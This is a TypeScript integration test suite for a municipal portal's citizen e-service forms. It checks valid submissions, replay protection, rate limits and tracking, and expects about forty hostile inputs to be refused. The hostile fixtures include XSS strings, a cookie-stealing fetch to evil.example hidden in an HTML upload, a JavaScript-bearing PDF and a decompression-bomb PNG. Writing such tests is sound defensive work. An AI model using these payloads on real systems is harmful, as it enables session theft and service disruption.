/**
 * The e-service edge over HTTP, on the test stack's sites server and real CMS: each form's
 * happy path without JavaScript (303 to the receipt) and with it (JSON), idempotent retries,
 * and hostile or malformed input of every kind, each answered with a clear error in the
 * citizen's language and no record stored.
 */
import { crc32 } from 'node:zlib'
import { hasMessage, t, type MessageKey } from '@bawaba/i18n'
import { siteOrigin } from '@bawaba/registry'
import sharp from 'sharp'
import { beforeAll, describe, expect, it } from 'vitest'
import { pdf } from '../../packages/eservices/src/testing/fixtures.ts'
import { formFields } from '../src/lib/eservices/fields.ts'
import { errorKeyOf } from '../src/lib/eservices/rules.ts'
import { sign } from '../src/lib/eservices/tokens.ts'
import {
  codeOf,
  newIp,
  postForm,
  renderForm,
  ripe,
  rulesOf,
  send,
  solvedAltcha,
  stackSecret,
  handle,
  storedByCode,
  storedSubmissions,
  type Answer,
  type Fields,
  type PostOptions,
  sendRaw,
  type Upload,
} from './support/forms.ts'
import { siteDir } from './support/dist.ts'
import { existsSync } from 'node:fs'

const escapeHtml = (text: string) =>
  text
    .replace(/&/g, '&amp;')
    .replace(/</g, '&lt;')
    .replace(/>/g, '&gt;')
    .replace(/"/g, '&quot;')
    .replace(/'/g, '&#39;')

const placeholders = { max: '{max}', size: '{size}', minutes: '{minutes}' }

const built = existsSync(siteDir('anfa')) && existsSync(siteDir('casablanca'))

function noisy(width: number, height: number) {
  const raw = Buffer.alloc(width * height * 3)
  for (let i = 0; i < raw.length; i++) raw[i] = (i * 7919) % 251
  return sharp(raw, { raw: { width, height, channels: 3 } })
}
const gps = { IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '33/1 35/1 0/1' } }
let photo: Buffer
let pixelBomb: Buffer
beforeAll(async () => {
  photo = await noisy(64, 48).jpeg().withMetadata({ exif: gps }).toBuffer()
  const png = Buffer.from(await noisy(1, 1).png().toBuffer())
  png.writeUInt32BE(30_000, 16)
  png.writeUInt32BE(30_000, 20)
  png.writeUInt32BE(crc32(png.subarray(12, 29)), 29)
  pixelBomb = png
})

const complaint = (token: string, extra: Fields = {}): Fields => ({
  token,
  site: 'anfa',
  category: 'lighting',
  description: 'Le lampadaire de la rue Ibn Battouta est éteint depuis dix jours.',
  email: 'citoyen@example.ma',
  consent: 'yes',
  ...extra,
})

const valid: Record<string, (token: string) => Fields> = {
  complaint: (token) => complaint(token),
  correspondence: (token) => ({
    token,
    department: 'urbanism',
    subject: 'Demande de rendez-vous',
    message: 'Je souhaite rencontrer le service de l’urbanisme au sujet de mon dossier.',
    name: 'Nadia Bennani',
    phone: '06 12 34 56 78',
    consent: 'yes',
  }),
  'urbanism-info': (token) => ({
    token,
    site: 'maarif',
    landTitle: 'TF 12345/C',
    location: 'Lotissement Al Amal, lot 14',
    capacity: 'owner',
    purpose: 'construction',
    name: 'Youssef Alami',
    email: 'y.alami@example.ma',
    consent: 'yes',
  }),
  'access-to-info': (token) => ({
    token,
    information: 'Le budget de l’arrondissement pour 2026, par chapitre.',
    answerForm: 'email',
    name: 'Salma Idrissi',
    email: 'salma@example.ma',
    consent: 'yes',
  }),
  feedback: (token) => ({
    token,
    pageUrl: '/fr/news/',
    message: 'Le lien vers le budget est cassé.',
  }),
}

describe.skipIf(!built)('e-service forms: the happy paths', () => {
  it.each(Object.keys(valid))(
    'stores a %s without JavaScript: 303 to a receipt with the tracking code',
    async (service) => {
      const ip = newIp()
      const form = await renderForm('anfa', 'fr', service, ip)
      await ripe(form)
      const answer = await postForm('anfa', 'fr', service, valid[service]!(form.token), { ip })
      expect(answer.status, answer.body.slice(0, 300)).toBe(303)
      expect(answer.headers.location).toMatch(
        new RegExp(`^/fr/e-services/${service}/received/\\?r=`),
      )
      const receipt = await send('anfa', answer.headers.location as string)
      expect(receipt.status).toBe(200)
      if (service === 'feedback') {
        expect(receipt.body).toContain(t('fr', 'forms.confirm.feedbackThanks'))
        return
      }
      const code = await codeOf('anfa', answer)
      const expectedSite = service === 'urbanism-info' ? 'MAA' : 'ANF'
      expect(code).toMatch(
        new RegExp(`^${expectedSite}-[2-9A-HJKMNP-TV-Z]{4}-[2-9A-HJKMNP-TV-Z]{4}$`),
      )
      const stored = await storedByCode(code!)
      expect(stored).toHaveLength(1)
      expect(stored[0]).toMatchObject({ service, status: 'received' })
    },
  )

  it.each(Object.keys(valid))(
    'stores a %s with JavaScript: proof of work, JSON answer with the code',
    async (service) => {
      const ip = newIp()
      const form = await renderForm('casablanca', 'ar', service, ip)
      const altcha = await solvedAltcha('casablanca', ip)
      const answer = await postForm(
        'casablanca',
        'ar',
        service,
        { ...valid[service]!(form.token), altcha },
        { ip, json: true },
      )
      expect(answer.status, answer.body.slice(0, 300)).toBe(200)
      expect(answer.json).toMatchObject({ ok: true })
      expect(answer.json!.redirect).toMatch(new RegExp(`^/ar/e-services/${service}/received/`))
      const stored = await storedByCode(answer.json!.code)
      expect(stored).toHaveLength(1)
      // On the portal, correspondence and information requests go to the commune.
      if (service === 'correspondence' || service === 'access-to-info')
        expect(answer.json!.code).toMatch(/^CAS-/)
    },
  )

  it('keeps the photo, re-encoded without its EXIF/GPS, with the complaint', async () => {
    const ip = newIp()
    const form = await renderForm('anfa', 'ar', 'complaint', ip)
    await ripe(form)
    const answer = await postForm('anfa', 'ar', 'complaint', complaint(form.token), {
      ip,
      files: [{ name: 'IMG_2041.JPG', type: 'image/jpeg', data: photo }],
    })
    expect(answer.status, answer.body.slice(0, 300)).toBe(303)
    expect(await codeOf('anfa', answer)).toMatch(/^ANF-/)
  })

  it('answers a retry of the same form with the same code, and stores it once', async () => {
    const ip = newIp()
    const form = await renderForm('anfa', 'fr', 'complaint', ip)
    await ripe(form)
    const first = await postForm('anfa', 'fr', 'complaint', complaint(form.token), { ip })
    const again = await postForm('anfa', 'fr', 'complaint', complaint(form.token), { ip })
    const code = await codeOf('anfa', first)
    expect(code).toBeTruthy()
    expect(await codeOf('anfa', again)).toBe(code)
    expect(await storedByCode(code!)).toHaveLength(1)
  })

  it('keeps everything typed when the form comes back with errors (no JavaScript)', async () => {
    const form = await renderForm('anfa', 'ar', 'complaint')
    await ripe(form)
    const answer = await postForm(
      'anfa',
      'ar',
      'complaint',
      complaint(form.token, { email: 'pas-un-courriel', address: 'زنقة <b>ابن بطوطة</b>' }),
    )
    expect(answer.status).toBe(400)
    expect(answer.body).toContain('<html lang="ar" dir="rtl"')
    expect(rulesOf(answer)).toMatchObject({ email: 'email' })
    // The email's own message, its example isolated left to right.
    const [before, example] = t('ar', 'forms.error.email.email').split('`')
    expect(answer.body).toContain(`${before}<bdi dir="ltr">${example}</bdi>`)
    // At the top of main, with a heading, and the title says it is an error.
    expect(answer.body).toMatch(
      /<main[^>]*>\s*<div class="container">\s*<div class="error-summary"/,
    )
    expect(answer.body).toContain(`<title>${t('ar', 'forms.error.pageTitle', { title: '' })}`)
    // What was typed comes back, escaped.
    expect(answer.body).toContain('value="pas-un-courriel"')
    const address = /id="f-address"[^>]*value="([^"]*)"/.exec(answer.body)?.[1] ?? ''
    expect(address.replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&amp;/g, '&')).toBe(
      'زنقة <b>ابن بطوطة</b>',
    )
    expect(answer.body).not.toContain('<b>ابن بطوطة</b></')
    expect(answer.body).toContain('Le lampadaire de la rue Ibn Battouta')
    expect(answer.body).toContain('<option value="lighting" selected')
  })
})

/** A malformed or hostile request and what it must get. */
interface Hostile {
  name: string
  service?: string
  locale?: string
  fields: (token: string) => Fields
  options?: PostOptions
  /** Send without waiting 2 s and without proof of work. */
  hasty?: boolean
  /** Prepare the request some other way (returns the answer). */
  raw?: (token: string) => Promise<Answer>
  status: number
  rule: [string, string]
  /** Only the status can be read (the answer to a lying request). */
  statusOnly?: boolean
}

const mb = (n: number) => Buffer.alloc(n * 1024 * 1024, 0x41)
const svg = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(document.cookie)</script></svg>',
)
const html = Buffer.from(
  '<!doctype html><script>fetch("https://evil.example/"+document.cookie)</script>',
)

const hostile: Hostile[] = [
  // Origins and transport.
  {
    name: 'a POST from another website',
    fields: complaint,
    options: { origin: 'https://evil.example' },
    status: 403,
    rule: ['_form', 'cross-origin'],
  },
  {
    name: 'a POST without Origin',
    fields: complaint,
    options: { origin: null },
    status: 403,
    rule: ['_form', 'cross-origin'],
  },
  {
    name: 'a POST from another of our sites',
    fields: complaint,
    options: { origin: 'SITE:maarif' },
    status: 403,
    rule: ['_form', 'cross-origin'],
  },
  {
    name: 'a cross-site fetch with a spoofed Origin',
    fields: complaint,
    options: { headers: { 'sec-fetch-site': 'cross-site' } },
    status: 403,
    rule: ['_form', 'cross-origin'],
  },
  {
    name: 'a body announced at 60 MB',
    fields: complaint,
    raw: async (token) => ({
      status: await sendRaw(
        'anfa',
        [
          'POST /fr/e-services/complaint/ HTTP/1.1',
          `Origin: ${siteOrigin('anfa')}`,
          'Content-Type: multipart/form-data; boundary=x',
          `Content-Length: ${60 * 1024 * 1024}`,
          `X-Forwarded-For: ${newIp()}`,
        ],
        `--x\r\nContent-Disposition: form-data; name="token"\r\n\r\n${token}\r\n`,
      ),
      headers: {},
      body: '',
      json: null,
    }),
    statusOnly: true,
    status: 413,
    rule: ['_form', 'too-large'],
  },
  {
    name: 'a giant chunked body with no length',
    fields: complaint,
    raw: () =>
      send('anfa', '/fr/e-services/complaint/', {
        method: 'POST',
        headers: {
          origin: siteOrigin('anfa'),
          'content-type': 'multipart/form-data; boundary=x',
          'transfer-encoding': 'chunked',
          'x-forwarded-for': newIp(),
        },
        body: mb(52),
      }),
    status: 413,
    rule: ['_form', 'too-large'],
  },
  {
    name: 'a JSON body instead of a form',
    fields: complaint,
    raw: (token) =>
      send('anfa', '/fr/e-services/complaint/', {
        method: 'POST',
        headers: {
          origin: siteOrigin('anfa'),
          'content-type': 'application/json',
          'x-forwarded-for': newIp(),
        },
        body: JSON.stringify(complaint(token)),
      }),
    status: 415,
    rule: ['_form', 'refused'],
  },
  // Tokens and anti-bot.
  {
    name: 'no form token',
    fields: (token) => ({ ...complaint(token), token: '' }),
    status: 400,
    rule: ['_form', 'expired'],
  },
  {
    name: 'a forged form token',
    fields: (token) => complaint(token.replace(/.$/, (c) => (c === 'A' ? 'B' : 'A'))),
    status: 400,
    rule: ['_form', 'expired'],
  },
  {
    name: 'the token of another service',
    fields: () => complaint('OTHER-SERVICE'),
    status: 400,
    rule: ['_form', 'expired'],
  },
  {
    name: 'the token of another site',
    fields: () => complaint('OTHER-SITE'),
    status: 400,
    rule: ['_form', 'expired'],
  },
  {
    name: 'a token past its lifetime',
    fields: () => complaint('EXPIRED'),
    status: 400,
    rule: ['_form', 'expired'],
  },
  {
    name: 'a form posted at once without proof of work',
    fields: complaint,
    hasty: true,
    status: 429,
    rule: ['_form', 'expired'],
  },
  {
    name: 'the honeypot filled in',
    fields: (token) => complaint(token, { website: 'https://cheap-pills.example' }),
    status: 400,
    rule: ['_form', 'refused'],
  },
  {
    name: 'a forged proof of work',
    fields: (token) =>
      complaint(token, {
        altcha: Buffer.from('{"challenge":{},"solution":{}}').toString('base64'),
      }),
    status: 400,
    rule: ['altcha', 'altcha'],
  },
  {
    name: 'a proof of work that is not even base64',
    fields: (token) => complaint(token, { altcha: '<script>' }),
    status: 400,
    rule: ['altcha', 'altcha'],
  },
  // Fields.
  {
    name: 'the description missing',
    fields: (token) => complaint(token, { description: '' }),
    status: 400,
    rule: ['description', 'required'],
  },
  {
    name: 'a description of control characters only',
    fields: (token) => complaint(token, { description: '\u0000\u0001\u0002\u202e\u2066 \t' }),
    status: 400,
    rule: ['description', 'required'],
  },
  {
    name: 'a description too short',
    fields: (token) => complaint(token, { description: 'cassé' }),
    status: 400,
    rule: ['description', 'too-short'],
  },
  {
    name: 'an oversized description',
    fields: (token) => complaint(token, { description: 'س'.repeat(4001) }),
    status: 400,
    rule: ['description', 'too-long'],
  },
  {
    name: 'a 1 MB description',
    fields: (token) => complaint(token, { description: 'x'.repeat(1024 * 1024) }),
    status: 400,
    rule: ['description', 'too-long'],
  },
  {
    name: 'an oversized name',
    fields: (token) => complaint(token, { name: 'N'.repeat(500) }),
    status: 400,
    rule: ['name', 'too-long'],
  },
  {
    name: 'an invalid email',
    fields: (token) => complaint(token, { email: 'citoyen@@example' }),
    status: 400,
    rule: ['email', 'email'],
  },
  {
    name: 'a script as email',
    fields: (token) => complaint(token, { email: '"><script>alert(1)</script>' }),
    status: 400,
    rule: ['email', 'email'],
  },
  {
    name: 'a foreign phone number',
    fields: (token) => complaint(token, { email: '', phone: '+33 6 12 34 56 78' }),
    status: 400,
    rule: ['phone', 'phone'],
  },
  {
    name: 'no way to reach the citizen',
    fields: (token) => complaint(token, { email: '' }),
    status: 400,
    rule: ['email', 'contact'],
  },
  {
    name: 'an unknown category',
    fields: (token) => complaint(token, { category: 'bribes' }),
    status: 400,
    rule: ['category', 'choice'],
  },
  {
    name: 'a category sent twice',
    fields: (token) => complaint(token, { category: ['lighting', 'roads'] }),
    status: 400,
    rule: ['category', 'choice'],
  },
  {
    name: 'an unknown arrondissement',
    fields: (token) => complaint(token, { site: 'atlantis' }),
    status: 400,
    rule: ['site', 'choice'],
  },
  {
    name: 'the commune as a complaint’s arrondissement',
    fields: (token) => complaint(token, { site: 'casablanca' }),
    status: 400,
    rule: ['site', 'choice'],
  },
  {
    name: 'a latitude without longitude',
    fields: (token) => complaint(token, { lat: '33.58' }),
    status: 400,
    rule: ['lat', 'coordinates'],
  },
  {
    name: 'a point in Paris',
    fields: (token) => complaint(token, { lat: '48.85', lng: '2.35' }),
    status: 400,
    rule: ['lat', 'coordinates'],
  },
  {
    name: 'a latitude of Infinity',
    fields: (token) => complaint(token, { lat: '1e309', lng: '-7.6' }),
    status: 400,
    rule: ['lat', 'coordinates'],
  },
  {
    name: 'no consent',
    fields: (token) => complaint(token, { consent: '' }),
    status: 400,
    rule: ['consent', 'required'],
  },
  {
    name: 'a correspondence with no department',
    service: 'correspondence',
    fields: (token) => ({ ...valid.correspondence!(token), department: '' }),
    status: 400,
    rule: ['department', 'required'],
  },
  {
    name: 'an urbanism request without any land reference',
    service: 'urbanism-info',
    fields: (token) => ({ ...valid['urbanism-info']!(token), landTitle: '' }),
    status: 400,
    rule: ['landTitle', 'required'],
  },
  {
    name: 'an access-to-info request with an unknown answer form',
    service: 'access-to-info',
    fields: (token) => ({ ...valid['access-to-info']!(token), answerForm: 'fax' }),
    status: 400,
    rule: ['answerForm', 'choice'],
  },
  {
    name: 'feedback about a page elsewhere',
    service: 'feedback',
    fields: (token) => ({ ...valid.feedback!(token), pageUrl: 'https://evil.example/' }),
    status: 400,
    rule: ['pageUrl', 'required'],
  },
  // Files.
  {
    name: 'a file sent as the description',
    fields: (token) => complaint(token),
    options: { files: [] },
    raw: async (token) => postRawFileAsField(token),
    status: 400,
    rule: ['description', 'required'],
  },
  {
    name: 'an SVG renamed .png',
    fields: complaint,
    options: { files: [{ name: 'photo.png', type: 'image/png', data: svg }] },
    status: 400,
    rule: ['files', 'file-type'],
  },
  {
    name: 'an HTML page renamed .jpg',
    fields: complaint,
    options: { files: [{ name: 'photo.jpg', type: 'image/jpeg', data: html }] },
    status: 400,
    rule: ['files', 'file-type'],
  },
  {
    name: 'a PDF as a complaint photo',
    fields: complaint,
    options: { files: [{ name: 'photo.jpg', type: 'image/jpeg', data: pdf() }] },
    status: 400,
    rule: ['files', 'file-type'],
  },
  {
    name: 'a photo as a correspondence attachment',
    service: 'correspondence',
    fields: (token) => valid.correspondence!(token),
    options: { files: [{ name: 'lettre.pdf', type: 'application/pdf', data: Buffer.alloc(0) }] },
    raw: async (token) => postPhotoAsPdf(token),
    status: 400,
    rule: ['files', 'file-type'],
  },
  {
    name: 'a PDF with JavaScript',
    service: 'correspondence',
    fields: (token) => valid.correspondence!(token),
    options: {
      files: [
        {
          name: 'lettre.pdf',
          type: 'application/pdf',
          data: pdf('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>'),
        },
      ],
    },
    status: 400,
    rule: ['files', 'pdf-active-content'],
  },
  {
    name: 'a decompression bomb (30,000 × 30,000 px)',
    fields: complaint,
    options: { files: [] },
    raw: async (token) =>
      postWithFile(token, { name: 'bomb.png', type: 'image/png', data: pixelBomb }),
    status: 400,
    rule: ['files', 'too-many-pixels'],
  },
  {
    name: 'a truncated JPEG',
    fields: complaint,
    raw: async (token) =>
      postWithFile(token, {
        name: 'cut.jpg',
        type: 'image/jpeg',
        data: photo.subarray(0, photo.length / 2),
      }),
    status: 400,
    rule: ['files', 'file-corrupt'],
  },
  {
    name: 'an empty file',
    fields: complaint,
    options: { files: [{ name: 'empty.jpg', type: 'image/jpeg', data: Buffer.alloc(0) }] },
    status: 400,
    rule: ['files', 'file-corrupt'],
  },
  {
    name: 'a file over 10 MB',
    fields: complaint,
    options: { files: [{ name: 'big.jpg', type: 'image/jpeg', data: mb(11) }] },
    status: 400,
    rule: ['files', 'file-too-large'],
  },
  {
    name: 'six photos',
    fields: complaint,
    raw: async (token) => postWithFiles(token, 6),
    status: 400,
    rule: ['files', 'too-many-files'],
  },
]

async function postWithFile(token: string, file: Upload) {
  const form = await renderForm('anfa', 'fr', 'complaint')
  await ripe(form)
  void token
  return postForm('anfa', 'fr', 'complaint', complaint(form.token), { files: [file] })
}
async function postWithFiles(token: string, count: number) {
  const form = await renderForm('anfa', 'fr', 'complaint')
  await ripe(form)
  void token
  const files = Array.from({ length: count }, (_, i) => ({
    name: `p${i}.jpg`,
    type: 'image/jpeg',
    data: photo,
  }))
  return postForm('anfa', 'fr', 'complaint', complaint(form.token), { files })
}
async function postRawFileAsField(token: string) {
  const form = new FormData()
  for (const [name, value] of Object.entries(complaint(token, { description: '' })))
    if (name !== 'description') form.append(name, value as string)
  form.append(
    'description',
    new Blob([new Uint8Array(photo)], { type: 'image/jpeg' }),
    'description.jpg',
  )
  const encoded = new Request('http://local/', { method: 'POST', body: form })
  return send('anfa', '/fr/e-services/complaint/', {
    method: 'POST',
    headers: {
      origin: siteOrigin('anfa'),
      'content-type': encoded.headers.get('content-type')!,
      'x-forwarded-for': newIp(),
    },
    body: Buffer.from(await encoded.arrayBuffer()),
  })
}
async function postPhotoAsPdf(token: string) {
  return postForm('anfa', 'fr', 'correspondence', valid.correspondence!(token), {
    files: [{ name: 'lettre.pdf', type: 'application/pdf', data: photo }],
  })
}

describe.skipIf(!built)('e-service forms: hostile and malformed input', () => {
  const tokens = new Map<string, string>()
  beforeAll(async () => {
    // One rendered form per case, all left to ripen together (2 s) instead of one by one.
    await Promise.all(
      hostile.map(async (c) => {
        const form = await renderForm('anfa', c.locale ?? 'fr', c.service ?? 'complaint')
        tokens.set(c.name, form.token)
      }),
    )
    await new Promise((resolve) => setTimeout(resolve, 2_300))
  })

  it('has at least forty cases', () => expect(hostile.length).toBeGreaterThanOrEqual(40))

  it.each(hostile.map((c) => [c.name, c] as const))(
    'refuses %s, stores nothing',
    async (_name, c) => {
      const secret = stackSecret('FORMS_SECRET')
      let token = tokens.get(c.name)!
      const service = c.service ?? 'complaint'
      // Tokens only the platform could sign, describing the wrong thing.
      const special: Record<string, string> = {
        'OTHER-SERVICE': sign(secret, 'form', {
          k: 'k'.repeat(24),
          s: 'anfa',
          f: 'correspondence',
          t: Date.now() - 5_000,
        }),
        'OTHER-SITE': sign(secret, 'form', {
          k: 'k'.repeat(24),
          s: 'maarif',
          f: 'complaint',
          t: Date.now() - 5_000,
        }),
        EXPIRED: sign(secret, 'form', {
          k: 'k'.repeat(24),
          s: 'anfa',
          f: 'complaint',
          t: Date.now() - 25 * 3600_000,
        }),
      }
      const fields = c.fields(token)
      if (typeof fields.token === 'string' && special[fields.token])
        fields.token = special[fields.token]!
      const before = (await storedSubmissions()).total
      let answer: Answer
      if (c.raw) answer = await c.raw(token)
      else if (c.hasty) {
        token = (await renderForm('anfa', 'fr', service)).token
        answer = await postForm('anfa', c.locale ?? 'fr', service, { ...fields, token })
      } else {
        const options = { ...c.options }
        if (typeof options.origin === 'string' && options.origin.startsWith('SITE:'))
          options.origin = siteOrigin(options.origin.slice(5))
        answer = await postForm('anfa', c.locale ?? 'fr', service, fields, options)
      }
      if (answer.status === 0 || c.statusOnly) {
        // Refused before the upload was all sent: the connection may close under the sender.
        expect([0, c.status]).toContain(answer.status)
      } else {
        expect(answer.status, answer.body.slice(0, 400)).toBe(c.status)
        const [field, rule] = c.rule
        expect(rulesOf(answer)[field], JSON.stringify(rulesOf(answer))).toBe(rule)
        // Said in the citizen's language (the form is French here), beside the field.
        expect(answer.body).toContain('<html lang="fr" dir="ltr"')
        // The field's own message where it has one (what to do), else the rule's.
        const label =
          field === 'consent'
            ? 'consent'
            : formFields[service as keyof typeof formFields].find((f) => f.name === field)?.label
        const message = t('fr', errorKeyOf(label, rule, hasMessage) as MessageKey, placeholders)
          .split(/[{`]/)[0]!
          .slice(0, 40)
        expect(answer.body).toContain(escapeHtml(message))
      }
      expect((await storedSubmissions()).total).toBe(before)
    },
  )
})

describe.skipIf(!built)('e-service forms: replays, budgets and tracking', () => {
  it('refuses a proof of work spent once already, and stores nothing the second time', async () => {
    const ip = newIp()
    const altcha = await solvedAltcha('anfa', ip)
    const first = await renderForm('anfa', 'fr', 'complaint', ip)
    const second = await renderForm('anfa', 'fr', 'complaint', ip)
    const stored = await postForm('anfa', 'fr', 'complaint', complaint(first.token, { altcha }), {
      ip,
      json: true,
    })
    expect(stored.json).toMatchObject({ ok: true })
    const before = (await storedSubmissions()).total
    const replay = await postForm(
      'anfa',
      'fr',
      'complaint',
      complaint(second.token, {
        altcha,
        description: 'Un autre problème, même preuve de travail.',
      }),
      { ip, json: true },
    )
    expect(replay.status).toBe(409)
    expect(replay.json?.errors).toEqual({ altcha: 'altcha' })
    expect((await storedSubmissions()).total).toBe(before)
  })

  it('refuses the same form sent again with other content, and stores nothing', async () => {
    const ip = newIp()
    const form = await renderForm('anfa', 'fr', 'complaint', ip)
    await ripe(form)
    const first = await postForm('anfa', 'fr', 'complaint', complaint(form.token), { ip })
    expect(first.status).toBe(303)
    const before = (await storedSubmissions()).total
    const other = await postForm(
      'anfa',
      'fr',
      'complaint',
      complaint(form.token, { description: 'Un tout autre texte pour la même clé.' }),
      { ip },
    )
    expect(other.status).toBe(409)
    expect(rulesOf(other)._form).toBe('idempotency-conflict')
    expect(other.body).toContain(escapeHtml(t('fr', 'forms.error.idempotency-conflict')))
    expect((await storedSubmissions()).total).toBe(before)
  })

  it('limits the submissions of one address, then says when to come back', async () => {
    const ip = newIp()
    const statuses: number[] = []
    for (let i = 0; i < 9; i++)
      statuses.push((await postForm('anfa', 'fr', 'complaint', complaint(''), { ip })).status)
    expect(statuses.slice(0, 8).every((status) => status === 400)).toBe(true)
    const limited = await postForm('anfa', 'fr', 'complaint', complaint(''), { ip })
    expect(limited.status).toBe(429)
    expect(Number(limited.headers['retry-after'])).toBeGreaterThan(0)
    expect(rulesOf(limited)._form).toBe('rate-limited')
    // Another citizen is not affected.
    const other = await postForm('anfa', 'fr', 'complaint', complaint(''), { ip: newIp() })
    expect(other.status).toBe(400)
  })

  async function track(code: string, contact: string, ip = newIp(), origin = siteOrigin('anfa')) {
    return send('anfa', '/fr/e-services/track/', {
      method: 'POST',
      headers: {
        origin,
        'content-type': 'application/x-www-form-urlencoded',
        'x-forwarded-for': ip,
      },
      body: new URLSearchParams({ code, contact }).toString(),
    })
  }
  const resultOf = (html: string) =>
    (/<main[\s\S]*<\/main>/.exec(html)?.[0] ?? '').replace(/ value="[^"]*"/g, '')

  it('tracks a request by code and contact, showing no personal data', async () => {
    const ip = newIp()
    const form = await renderForm('anfa', 'fr', 'complaint', ip)
    const altcha = await solvedAltcha('anfa', ip)
    const stored = await postForm(
      'anfa',
      'fr',
      'complaint',
      complaint(form.token, { altcha, phone: '0612345678', name: 'Karim Tazi' }),
      { ip, json: true },
    )
    const code = stored.json!.code as string
    const found = await track(code.toLowerCase().replace(/-/g, ' '), 'CITOYEN@example.ma')
    expect(found.status).toBe(200)
    expect(found.body).toContain('data-status="received"')
    expect(found.body).toContain(t('fr', 'forms.status.received'))
    const byPhone = await track(code, '+212 6 12 34 56 78')
    expect(byPhone.status).toBe(200)
    const shown = resultOf(found.body)
    for (const secret of ['citoyen@example.ma', 'Karim Tazi', '0612345678', 'Ibn Battouta'])
      expect(shown).not.toContain(secret)
  })

  it('answers an unknown code and a wrong contact alike', async () => {
    const ip = newIp()
    const form = await renderForm('anfa', 'fr', 'complaint', ip)
    const altcha = await solvedAltcha('anfa', ip)
    const code = (
      await postForm('anfa', 'fr', 'complaint', complaint(form.token, { altcha }), {
        ip,
        json: true,
      })
    ).json!.code as string
    const wrong = await track(code, 'someone-else@example.ma')
    const unknown = await track('ANF-2222-3333', 'someone-else@example.ma')
    expect(wrong.status).toBe(404)
    expect(unknown.status).toBe(404)
    expect(wrong.body).toContain(escapeHtml(t('fr', 'forms.track.notFound')))
    expect(resultOf(wrong.body)).toBe(resultOf(unknown.body))
  })

  it('refuses tracking from another website and limits lookups per address', async () => {
    expect(
      (await track('ANF-2222-3333', 'x@example.ma', newIp(), 'https://evil.example')).status,
    ).toBe(403)
    const ip = newIp()
    const statuses: number[] = []
    for (let i = 0; i < 31; i++)
      statuses.push((await track('ANF-2222-3333', 'x@example.ma', ip)).status)
    expect(statuses.slice(0, 30).every((status) => status === 404)).toBe(true)
    expect(statuses[30]).toBe(429)
  })

  it('lets the citizen reopen a resolved complaint from the tracking page', async () => {
    const ip = newIp()
    const form = await renderForm('anfa', 'fr', 'complaint', ip)
    const altcha = await solvedAltcha('anfa', ip)
    const code = (
      await postForm('anfa', 'fr', 'complaint', complaint(form.token, { altcha }), {
        ip,
        json: true,
      })
    ).json!.code as string
    const [stored] = await storedByCode(code)
    await handle(stored.id, { status: 'resolved', reply: 'Le lampadaire a été réparé.' })
    const resolved = await track(code, 'citoyen@example.ma')
    expect(resolved.body).toContain('data-status="resolved"')
    expect(resolved.body).toContain('Le lampadaire a été réparé.')
    expect(resolved.body).toContain('name="action" value="reopen"')
    const reopened = await send('anfa', '/fr/e-services/track/', {
      method: 'POST',
      headers: {
        origin: siteOrigin('anfa'),
        'content-type': 'application/x-www-form-urlencoded',
        'x-forwarded-for': newIp(),
      },
      body: new URLSearchParams({
        code,
        contact: 'citoyen@example.ma',
        action: 'reopen',
      }).toString(),
    })
    expect(reopened.status).toBe(200)
    expect(reopened.body).toContain('data-status="in-progress"')
    expect(reopened.body).toContain(t('fr', 'forms.status.reopened'))
    expect((await storedByCode(code))[0].status).toBe('in-progress')
    // Only once it is resolved again can it be reopened: a second try is refused plainly.
    const again = await send('anfa', '/fr/e-services/track/', {
      method: 'POST',
      headers: {
        origin: siteOrigin('anfa'),
        'content-type': 'application/x-www-form-urlencoded',
        'x-forwarded-for': newIp(),
      },
      body: new URLSearchParams({
        code,
        contact: 'citoyen@example.ma',
        action: 'reopen',
      }).toString(),
    })
    expect(again.status).toBe(409)
    expect(again.body).toContain(escapeHtml(t('fr', 'forms.error.not-reopenable')))
  })

  it('answers unknown services, locales and methods plainly', async () => {
    expect((await send('anfa', '/fr/e-services/bribes/')).status).toBe(404)
    expect((await send('anfa', '/xx/e-services/complaint/')).status).toBe(404)
    expect((await send('anfa', '/fr/e-services/complaint/', { method: 'DELETE' })).status).toBe(405)
    // A receipt cannot be forged: without a valid signature it sends back to the form.
    const forged = await send(
      'anfa',
      '/fr/e-services/complaint/received/?r=eyJjb2RlIjoiQU5GIn0.AAAA',
    )
    expect(forged.status).toBe(303)
  })
})
